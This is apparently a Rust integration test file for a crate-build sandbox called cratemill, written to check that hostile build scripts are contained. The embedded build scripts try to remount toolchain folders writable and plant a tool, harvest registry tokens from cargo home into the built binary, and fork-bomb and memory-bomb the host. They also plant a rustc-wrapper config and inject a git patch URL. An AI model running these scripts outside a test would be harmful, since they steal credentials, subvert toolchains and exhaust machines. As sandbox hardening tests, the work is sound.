//! Hostile crates against the sandbox itself (issue #19, round two: items 2 and 5 and the resource
//! limits). Each test serves a crate whose build script attacks, runs the real `cratemill build`, and
//! asserts on the effect: the planted host file is not there, the secret is nowhere in the package or
//! log, the process count and memory stayed under the stated limits. Where cheap, the same attack runs
//! with `--sandbox none` (or without the limit) and is seen to work, so the assertion can fail.

#[path = "support/hostile.rs"]
mod hostile;
mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use cratemill::builder::sandbox::{bwrap_args, find_on_path, Policy};
use cratemill::schema::result::{BuildResult, CgroupVersion, Status};
use hostile::{build, built, files_containing, hostile_crate, Work, MEMORY_BOMB_BUILD_RS};
use support::sparse_registry::SparseRegistry;

fn is_root() -> bool {
    // SAFETY: geteuid(2) has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// The result.json a build left (built or failed).
fn result_of(out: &Path) -> BuildResult {
    let text = std::fs::read_to_string(out.join("result.json")).expect("result.json is written");
    serde_json::from_str(&text).unwrap()
}

/// The build log of a build.
fn log_of(out: &Path) -> String {
    std::fs::read_to_string(out.join("build.log")).unwrap_or_default()
}

/// The numbers a build script reported as `cargo:warning=<key> <n>` (shown in the log).
fn reported(log: &str, key: &str) -> Vec<u64> {
    let tag = format!("{key} ");
    log.lines()
        .filter_map(|l| l.split_once(&tag).map(|(_, n)| n.trim()))
        .filter_map(|n| n.split_whitespace().next()?.parse().ok())
        .collect()
}

/// Class 5 at the bwrap level, as root and as an unprivileged user: inside, no capability at all,
/// no-new-privs set, and a read-only bind of a host folder cannot be remounted writable to plant a file.
#[test]
fn class_5_capabilities_are_dropped_for_root_and_for_an_unprivileged_user() {
    let dir = tempfile::tempdir().unwrap();
    let (host, work) = (dir.path().join("host-folder"), dir.path().join("work"));
    for d in [&host, &work] {
        std::fs::create_dir_all(d).unwrap();
    }
    use std::os::unix::fs::PermissionsExt;
    for d in [dir.path(), &host, &work] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    let policy = Policy {
        system: Policy::host_system(false),
        read_only: vec![host.clone()],
        writable: work.clone(),
        cache: None,
        read_only_within: Vec::new(),
        writable_within: Vec::new(),
        home: None,
        cwd: work.clone(),
        network: false,
    };
    let script = format!(
        "grep -E '^(CapEff|NoNewPrivs):' /proc/self/status > cap; id -u > uid; \
         mount -o remount,rw,bind {h} {h} 2>/dev/null; echo pwned > {h}/planted 2>/dev/null; true",
        h = host.display()
    );
    let bwrap = find_on_path("bwrap").expect("bwrap is installed");
    let mut runs: Vec<(&str, Command)> = Vec::new();
    if is_root() {
        runs.push(("root", Command::new(&bwrap)));
    }
    // An unprivileged user: nobody, through util-linux's setpriv (as root), or this user itself.
    let mut nobody = Command::new("setpriv");
    nobody.args(["--reuid=65534", "--regid=65534", "--clear-groups"]).arg(&bwrap);
    runs.push(if is_root() { ("nobody", nobody) } else { ("this user", Command::new(&bwrap)) });
    for (who, mut cmd) in runs {
        for f in ["cap", "uid"] {
            let _ = std::fs::remove_file(work.join(f));
        }
        let status = cmd.args(bwrap_args(&policy)).args(["--", "/bin/sh", "-c", &script]).env_clear().status().unwrap();
        assert!(status.success(), "{who}: the sandbox ran");
        let cap = std::fs::read_to_string(work.join("cap")).unwrap();
        let field = |name: &str| cap.lines().find_map(|l| l.strip_prefix(name)).map(str::trim);
        assert_eq!(field("CapEff:"), Some("0000000000000000"), "{who}: capabilities inside: {cap}");
        assert_eq!(field("NoNewPrivs:"), Some("1"), "{who}: no-new-privs: {cap}");
        assert_eq!(std::fs::read_to_string(work.join("uid")).unwrap().trim(), "65534", "{who}");
        assert!(!host.join("planted").exists(), "{who}: a read-only host folder was written through a remount");
    }
    // The detector fires: without the sandbox the same script plants the file.
    let status = Command::new("/bin/sh").args(["-c", &script]).current_dir(&work).status().unwrap();
    assert!(status.success());
    assert!(host.join("planted").exists(), "the detector can see a planted file");
}

/// Class 5 through a real build: the build script remounts cargo's own folder writable and plants a
/// tool there, which cratemill would run outside the sandbox later.
#[test]
fn class_5_build_script_cannot_remount_the_toolchain_writable() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let cargo_bin = find_on_path("cargo").unwrap().parent().unwrap().to_path_buf();
    let planted = cargo_bin.join(format!("cratemill-remount-{}", std::process::id()));
    let build_rs = r##"
fn main() {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let cap = status.lines().find(|l| l.starts_with("CapEff")).unwrap_or("").to_string();
    println!("cargo:warning=capabilities {}", cap.split_whitespace().nth(1).unwrap_or("?"));
    for dir in ["@BIN@", "/usr"] {
        let _ = std::process::Command::new("mount").args(["-o", "remount,rw,bind", dir, dir]).status();
    }
    let _ = std::fs::write("@PLANTED@", "#!/bin/sh\necho pwned\n");
    let _ = std::fs::write("/usr/cratemill-remount-@PID@", "pwned");
}
"##
    .replace("@BIN@", cargo_bin.to_str().unwrap())
    .replace("@PLANTED@", planted.to_str().unwrap())
    .replace("@PID@", &std::process::id().to_string());
    let reg = SparseRegistry::start(vec![hostile_crate("remounter", &build_rs, "")]);
    let o = build(&reg, "remounter", &out, &[], &[]);
    let (planted_now, usr_planted) =
        (planted.exists(), Path::new(&format!("/usr/cratemill-remount-{}", std::process::id())).exists());
    let _ = std::fs::remove_file(&planted);
    let r = built(&o, &out);
    let _work = Work::of(&out);
    assert!(!planted_now, "a tool was planted in {}", cargo_bin.display());
    assert!(!usr_planted, "a file was planted in /usr");
    let limits = r.sandbox_limits.expect("result.json says which limits applied");
    assert_eq!(limits.uid, 65534);
    assert!(log_of(&out).contains("capabilities 0000000000000000"), "the build script saw capabilities");
}

/// Class 2: the user's real cargo home (beside cargo's `bin/`) holds a token; the build script looks
/// for it there and embeds whatever it finds in the executable it builds.
#[test]
fn class_2_the_real_cargo_home_is_not_in_the_sandbox() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let cargo_bin = find_on_path("cargo").unwrap().parent().unwrap().to_path_buf();
    let home = cargo_bin.parent().unwrap().to_path_buf();
    let secret = format!("cratemill-test-token-{}", std::process::id());
    let planted = home.join(format!("cratemill-test-credentials-{}.toml", std::process::id()));
    std::fs::write(&planted, format!("[registry]\ntoken = \"{secret}\"\n")).unwrap();
    let build_rs = r#"
fn main() {
    let mut stolen = String::new();
    for dir in ["@HOME@", "@HOME@/registry", "@HOME@/.."] {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            stolen.push_str(&std::fs::read_to_string(e.path()).unwrap_or_default());
        }
    }
    stolen.push_str(&std::fs::read_to_string("@PLANTED@").unwrap_or_default());
    println!("cargo:warning=stolen {} bytes", stolen.len());
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::write(format!("{out}/stolen"), stolen).unwrap();
}
"#
    .replace("@HOME@", home.to_str().unwrap())
    .replace("@PLANTED@", planted.to_str().unwrap());
    let main_rs = "fn main() { let s = include_str!(concat!(env!(\"OUT_DIR\"), \"/stolen\")); println!(\"thief {}\", s.len()); if std::env::args().count() > 5 { println!(\"{s}\"); } }\n";
    let reg = SparseRegistry::start(vec![hostile_crate("thief", &build_rs, main_rs)]);
    let o = build(&reg, "thief", &out, &[], &[]);
    let _ = std::fs::remove_file(&planted);
    built(&o, &out);
    let work = Work::of(&out);
    assert_eq!(files_containing(&out, &secret), Vec::<PathBuf>::new(), "the token reached the package");
    assert_eq!(files_containing(&work.0, &secret), Vec::<PathBuf>::new(), "the token reached the work folder");
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains(&secret) && !String::from_utf8_lossy(&o.stderr).contains(&secret)
    );
}

/// A fork bomb: the build script starts up to 400 sleeping processes and reports how many it got.
/// With `--max-processes 64` it gets fewer than 64; without the sandbox, all 400.
#[test]
fn resource_limits_bound_a_fork_bomb() {
    let build_rs = r#"
fn main() {
    let mut children = Vec::new();
    for _ in 0..400 {
        match std::process::Command::new("sleep").arg("30").spawn() {
            Ok(c) => children.push(c),
            Err(_) => break,
        }
    }
    println!("cargo:warning=spawned {}", children.len());
    for mut c in children {
        let _ = c.kill();
        let _ = c.wait();
    }
}
"#;
    let reg = SparseRegistry::start(vec![hostile_crate("forker", build_rs, "")]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let o = build(&reg, "forker", &out, &["--max-processes", "64"], &[]);
    let _work = Work::of(&out);
    let r = result_of(&out);
    let limits = r.sandbox_limits.clone().expect("result.json says which limits applied");
    let Some(cgroup) = limits.cgroup else {
        assert!(!is_root(), "root gets a cgroup: {:?}", limits.cgroup_unavailable);
        eprintln!("no cgroup here ({:?}): the process limit is not applied", limits.cgroup_unavailable);
        return;
    };
    assert_eq!(cgroup.max_processes, 64);
    assert!(matches!(cgroup.version, CgroupVersion::V1 | CgroupVersion::V2));
    let spawned = reported(&log_of(&out), "spawned");
    assert!(!spawned.is_empty(), "the build script ran: {}", String::from_utf8_lossy(&o.stderr));
    assert!(spawned.iter().all(|n| *n < 64), "the fork bomb got {spawned:?} processes under a limit of 64");
    // The detector fires: unsandboxed, the same script gets every process it asks for.
    let out2 = dir.path().join("out-none");
    build(&reg, "forker", &out2, &["--sandbox", "none"], &[]);
    let _work2 = Work::of(&out2);
    assert_eq!(reported(&log_of(&out2), "spawned"), [400]);
}

/// A memory bomb: the build script touches 64 MiB blocks up to 2 GiB and reports its progress. With
/// `--max-memory-mib 512` (cargo's and the build script's memory together) the kernel kills it
/// before 576 MiB.
#[test]
fn resource_limits_bound_a_memory_bomb() {
    let build_rs = MEMORY_BOMB_BUILD_RS;
    let reg = SparseRegistry::start(vec![hostile_crate("hog", build_rs, "")]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    build(&reg, "hog", &out, &["--max-memory-mib", "512"], &[]);
    let r = result_of(&out);
    let limits = r.sandbox_limits.clone().expect("result.json says which limits applied");
    if limits.cgroup.is_none() {
        assert!(!is_root(), "root gets a cgroup: {:?}", limits.cgroup_unavailable);
        return;
    }
    assert_eq!(limits.cgroup.unwrap().max_memory_bytes, 512 << 20);
    let log = log_of(&out);
    assert_eq!(r.status, Status::Failed, "the memory bomb was not stopped");
    assert!(reported(&log, "survived").is_empty(), "the memory bomb survived");
    let reached = reported(&log, "allocated").into_iter().max().unwrap_or(0);
    assert!(reached >= 64, "the memory bomb never ran:\n{log}");
    assert!(reached < 576, "the build script held {reached} MiB under a 512 MiB limit");
}

/// The sandbox's `/tmp` is RAM: writing 2 GiB into it stops at its size cap (1 GiB).
#[test]
fn resource_limits_cap_the_sandbox_tmp() {
    let build_rs = r#"
use std::io::Write;
fn main() {
    let mut f = std::fs::File::create("/tmp/fill").unwrap();
    let block = vec![7u8; 1 << 20];
    let mut written = 0u64;
    while written < 2048 && f.write_all(&block).is_ok() {
        written += 1;
    }
    drop(f);
    let _ = std::fs::remove_file("/tmp/fill");
    println!("cargo:warning=tmp-filled {written} MiB");
}
"#;
    let reg = SparseRegistry::start(vec![hostile_crate("filler", build_rs, "")]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let o = build(&reg, "filler", &out, &[], &[]);
    let r = built(&o, &out);
    let _work = Work::of(&out);
    assert_eq!(r.sandbox_limits.unwrap().tmp_bytes, 1 << 30);
    let filled = reported(&log_of(&out), "tmp-filled");
    assert_eq!(filled.len(), 1, "the build script reported once");
    assert!(filled[0] <= 1024, "the sandbox's /tmp took {} MiB", filled[0]);
}

/// `app 0.1.0` depending on `dep ^1`, shipping a lock that pins `dep 1.0.0`.
fn app_locked_to(dep_1_0_0: &support::sparse_registry::TestCrate) -> support::sparse_registry::TestCrate {
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n\n\
                    [dependencies]\ndep = \"1\"\n";
    let lock = format!(
        "version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n \"dep\",\n]\n\n\
         [[package]]\nname = \"dep\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n\
         checksum = \"{}\"\n",
        dep_1_0_0.cksum()
    );
    support::sparse_registry::TestCrate::new("app", "0.1.0")
        .file("Cargo.toml", manifest)
        .file("Cargo.lock", lock)
        .file("src/main.rs", "fn main() { println!(\"app {}\", dep::answer()); }\n")
        .dep("dep", "^1")
}

/// `dep` at `version` with `build_rs` and a lib that compiles only when `compiles`.
fn dep(version: &str, build_rs: &str, compiles: bool) -> support::sparse_registry::TestCrate {
    let manifest = format!("[package]\nname = \"dep\"\nversion = \"{version}\"\nedition = \"2021\"\n");
    let lib = if compiles { "pub fn answer() -> u32 { 42 }\n" } else { "pub fn answer() -> u32 { no_such::f() }\n" };
    let c =
        support::sparse_registry::TestCrate::new("dep", version).file("Cargo.toml", manifest).file("src/lib.rs", lib);
    if build_rs.is_empty() {
        c
    } else {
        c.file("build.rs", build_rs)
    }
}

/// The work folder, from a build script: the folder above OUT_DIR that holds `cargo-home`.
const FIND_WORK: &str = r#"
fn work() -> std::path::PathBuf {
    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());
    out.ancestors().find(|d| d.join("cargo-home").exists()).expect("the work folder").to_path_buf()
}
"#;

/// Class 1: a dependency's build script plants a `.cargo/config.toml` with a `rustc-wrapper` above
/// the crate (in the work folder and in `src/`), then fails to compile at its locked version, so the
/// ladder sets the lock aside and fetches again, with the network. The planted wrapper never runs.
#[test]
fn class_1_a_config_planted_above_the_crate_never_runs_in_the_next_fetch() {
    let build_rs = format!(
        r##"{FIND_WORK}
fn main() {{
    use std::os::unix::fs::PermissionsExt;
    let w = work();
    let wrapper = w.join("wrapper.sh");
    std::fs::write(&wrapper, format!("#!/bin/sh\necho ran >> {{}}/wrapper-ran\nexec \"$@\"\n", w.display())).unwrap();
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    for dir in [w.join(".cargo"), w.join("src/.cargo")] {{
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("config.toml"), format!("[build]\nrustc-wrapper = \"{{}}\"\n", wrapper.display())).unwrap();
    }}
    println!("cargo:warning=planted a rustc-wrapper config");
}}
"##
    );
    let broken = dep("1.0.0", &build_rs, false);
    let reg = SparseRegistry::start(vec![app_locked_to(&broken), broken, dep("1.0.1", "", true)]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let o = build(&reg, "app@0.1.0", &out, &[], &[]);
    let work = Work::of(&out);
    let log = log_of(&out);
    assert!(log.contains("planted a rustc-wrapper config"), "the attack ran:\n{log}");
    assert!(!work.0.join("wrapper-ran").exists(), "the planted rustc-wrapper ran:\n{log}");
    assert!(!work.0.join(".cargo").exists() && !work.0.join("src/.cargo").exists(), "the planted configs are gone");
    assert!(log.contains("removed what crate code left to steer cargo"), "the log says so:\n{log}");
    let r = built(&o, &out);
    assert!(r.attempts.len() >= 2 && !r.attempts.last().unwrap().locked, "{:?}", r.attempts);
}

/// Class 1, the manifest: a dependency's build script adds a `[patch]` with a git URL (a loopback
/// listener) to the crate's own manifest, then fails. cratemill fetches nothing for a tree crate code
/// changed: no connection arrives, and the build fails saying why.
#[test]
fn class_1_a_manifest_changed_by_crate_code_is_never_fetched() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let build_rs = format!(
        r##"{FIND_WORK}
fn main() {{
    let manifest = work().join("src/app-0.1.0/Cargo.toml");
    let mut text = std::fs::read_to_string(&manifest).unwrap();
    text.push_str("\n[patch.crates-io]\ndep = {{ git = \"http://127.0.0.1:{port}/evil.git\" }}\n");
    std::fs::write(&manifest, text).unwrap();
    println!("cargo:warning=patched the manifest");
}}
"##
    );
    let broken = dep("1.0.0", &build_rs, false);
    let reg = SparseRegistry::start(vec![app_locked_to(&broken), broken, dep("1.0.1", "", true)]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    // Bounded: without the guard the fetch waits on the listener until the time limit.
    build(&reg, "app@0.1.0", &out, &["--timeout", "90s"], &[]);
    let _work = Work::of(&out);
    let log = log_of(&out);
    assert!(log.contains("patched the manifest"), "the attack ran:\n{log}");
    assert!(listener.accept().is_err(), "a connection arrived from the fetch");
    let r = result_of(&out);
    assert_eq!(r.status, Status::Failed);
    let failure = r.failure.expect("a failure");
    assert!(failure.message.contains("changed the crate's manifests"), "{}", failure.message);
}
